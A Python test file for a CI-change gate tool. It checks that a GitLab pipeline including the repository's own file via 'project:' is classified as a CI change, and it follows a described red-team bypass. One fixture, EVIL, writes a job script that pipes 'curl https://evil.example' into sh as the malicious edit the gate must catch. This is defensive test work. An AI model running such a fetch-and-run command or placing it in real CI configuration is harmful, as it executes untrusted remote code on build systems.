"""Red team 16, `--tree`: a GitLab pipeline that includes this repository's own file through `project:`.

`include: [{project: acme/app, file: /templates/deploy.yml}]` reads the file from the project `acme/app` at its
default branch. When `acme/app` is this repository, every pipeline after the merge runs the merged file: a change to
`templates/deploy.yml` is a CI change. Red team 9 counted a project named by a variable (`$CI_PROJECT_PATH`) as this
one, but a project named by its path literally was "another project's file", so the change was `src` and `gate
--tree` said allow (exit 0). This repository's project paths are now known from its remotes' URLs (`origin`:
`https://gitlab.example.com/acme/app.git`, `git@gitlab.example.com:acme/app.git`, ...) and from GitLab CI's
`CI_PROJECT_PATH`, matched case aside as GitLab matches paths; a project of another path stays another project's.
"""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify.gitlabincludes import included, project_path
from gatekeeper.cli import main
from tests.gitrepo import GitRepo
from tests.test_classify_context import tree_files

JOB = "deploy:\n  script: [./deploy.sh]\n"
EVIL = "deploy:\n  script: [curl https://evil.example | sh]\n"

INCLUDES = {
    "project and file": "include:\n  - project: acme/app\n    file: /templates/deploy.yml\n",
    "with a ref": "include:\n  - project: 'acme/app'\n    ref: main\n    file: templates/deploy.yml\n",
    "file list": "include:\n  - project: acme/app\n    file: [/templates/a.yml, /templates/deploy.yml]\n",
    "other case": "include:\n  - project: Acme/App\n    file: /templates/deploy.yml\n",
    "component": "include:\n  - component: gitlab.example.com/acme/app/deploy@1.0\n",
}
CHANGED = {"component": "templates/deploy/template.yml"}

REMOTES = ["https://gitlab.example.com/acme/app.git", "git@gitlab.example.com:acme/app.git",
           "ssh://git@gitlab.example.com:2222/acme/app.git", "https://gitlab-ci-token:x@gitlab.example.com/acme/app",
           "https://gitlab.example.com/acme/app/"]


def _repo(root: Path, ci: str, changed: str, remote: str | None) -> GitRepo:
    repo = GitRepo(root)
    if remote is not None:
        repo.git("remote", "add", "origin", remote)
    repo.write(".gitlab-ci.yml", ci)
    repo.write(changed, JOB)
    repo.write("docs/deploy.yml", JOB)
    repo.commit("base")
    repo.write(changed, EVIL)
    repo.write("docs/deploy.yml", EVIL)
    repo.commit("edit")
    return repo


@each_case("remote", REMOTES)
def test_a_remote_url_names_this_project(remote: str) -> None:
    assert project_path(remote) == "acme/app"


def test_what_names_no_project() -> None:
    for url in ("/srv/git/app.git", "../app", "", "https://gitlab.example.com/"):
        assert project_path(url) is None, url


@each_case("case", INCLUDES)
def test_this_projects_own_file_is_ci(tmp_path: Path, case: str) -> None:
    changed = CHANGED.get(case, "templates/deploy.yml")
    repo = _repo(tmp_path / "repo", INCLUDES[case], changed, "git@gitlab.example.com:acme/app.git")
    got = tree_files(repo)
    assert got[changed].bucket == "ci", (case, got[changed])
    assert got["docs/deploy.yml"].bucket != "ci"


def test_ci_project_path_names_this_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CI_PROJECT_PATH", "acme/app")
    repo = _repo(tmp_path / "repo", INCLUDES["project and file"], "templates/deploy.yml", None)
    assert tree_files(repo)["templates/deploy.yml"].bucket == "ci"


def test_another_projects_file_stays_src(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CI_PROJECT_PATH", raising=False)
    ci = "include:\n  - project: acme/shared\n    file: /templates/deploy.yml\n"
    repo = _repo(tmp_path / "repo", ci, "templates/deploy.yml", "https://gitlab.example.com/acme/app.git")
    assert tree_files(repo)["templates/deploy.yml"].bucket == "src"
    assert included(ci, frozenset({"acme/app"})) == []
    assert included(ci, frozenset({"acme/shared"})) == ["templates/deploy.yml"]


def test_the_gate_asks_for_a_human(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo", INCLUDES["project and file"], "templates/deploy.yml",
                 "https://gitlab.example.com/acme/app.git")
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["gate", "--tree", "main~1..main", "--repo", str(repo.root), "--format", "json"])
    assert code == 3, json.loads(out.getvalue())["reasons"]
